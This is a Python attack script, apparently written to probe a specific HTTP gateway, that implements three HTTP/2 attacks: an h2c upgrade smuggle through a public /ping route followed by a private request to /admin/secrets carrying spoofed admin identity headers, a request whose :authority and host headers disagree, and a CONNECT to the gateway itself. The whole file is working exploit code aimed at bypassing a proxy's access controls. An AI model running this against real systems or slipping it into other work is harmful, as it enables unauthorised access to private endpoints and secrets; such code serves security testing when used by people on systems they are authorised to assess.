"""HTTP/2 attacks on a gateway, printed as one JSON line.

  attack.py smuggle HOST:PORT AUTHORITY   h2c upgrade on the public /ping, then a private stream with
                                          spoofed identity headers on the upgraded connection
  attack.py authority HOST:PORT AUTHORITY h2 (prior knowledge) request whose :authority and host disagree
  attack.py connect HOST:PORT AUTHORITY   h2 CONNECT to the gateway's own authority
"""
import json
import socket
import sys

import h2.config
import h2.connection
import h2.events


def read_events(sock, conn, stream_id, timeout=5.0):
    sock.settimeout(timeout)
    status, body, ended = None, b"", False
    while not ended:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            break
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream_id:
                status = int(dict(event.headers)[b":status"])
            elif isinstance(event, h2.events.DataReceived) and event.stream_id == stream_id:
                body += event.data
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)) and event.stream_id == stream_id:
                ended = True
            elif isinstance(event, h2.events.ConnectionTerminated):
                ended = True
        sock.sendall(conn.data_to_send())
    return status, body.decode("utf-8", "replace")


def smuggle(addr, authority):
    sock = socket.create_connection(addr, timeout=5)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    settings = conn.initiate_upgrade_connection()
    sock.sendall(
        b"GET /ping HTTP/1.1\r\nHost: " + authority.encode() + b"\r\n"
        b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: " + settings + b"\r\n\r\n"
    )
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(1)
        if not chunk:
            break
        head += chunk
    status_line = head.split(b"\r\n", 1)[0].decode("latin-1")
    if " 101 " not in status_line + " ":
        return {"switched": False, "status_line": status_line}
    sock.sendall(conn.data_to_send())
    stream_id = conn.get_next_available_stream_id()
    conn.send_headers(stream_id, [
        (":method", "GET"), (":path", "/admin/secrets"), (":scheme", "http"), (":authority", authority),
        ("x-gatehouse-user", "usr_admin"), ("x-gatehouse-auth", "session"),
    ], end_stream=True)
    sock.sendall(conn.data_to_send())
    status, body = read_events(sock, conn, stream_id)
    return {"switched": True, "status_line": status_line, "private_status": status, "private_body": body}


def prior_knowledge(addr, headers):
    sock = socket.create_connection(addr, timeout=5)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False))
    conn.initiate_connection()
    stream_id = conn.get_next_available_stream_id()
    conn.send_headers(stream_id, headers, end_stream=True)
    sock.sendall(conn.data_to_send())
    status, body = read_events(sock, conn, stream_id)
    return {"status": status, "body": body}


def main():
    mode, target, authority = sys.argv[1], sys.argv[2], sys.argv[3]
    host, port = target.rsplit(":", 1)
    addr = (host, int(port))
    if mode == "smuggle":
        out = smuggle(addr, authority)
    elif mode == "authority":
        out = prior_knowledge(addr, [(":method", "GET"), (":path", "/ping"), (":scheme", "http"), (":authority", authority), ("host", "evil.example")])
    elif mode == "connect":
        out = prior_knowledge(addr, [(":method", "CONNECT"), (":authority", authority)])
    else:
        raise SystemExit("unknown mode " + mode)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
